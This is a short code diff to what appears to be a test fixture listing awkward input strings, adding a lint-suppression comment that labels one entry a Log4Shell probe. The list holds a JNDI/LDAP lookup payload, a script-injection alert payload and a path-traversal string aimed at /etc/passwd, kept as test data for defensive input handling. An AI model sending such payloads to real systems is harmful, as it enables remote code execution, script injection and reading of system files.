@@ -39,6 +39,7 @@ export const NASTY_STRINGS: readonly string[] = [
   '\uD800',
   'x\uDFFFy',
   '\uD83D',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe; the literal text is the point
   '${jndi:ldap://x/a}',
   '<script>alert(1)</script>',
   '../../../../etc/passwd',
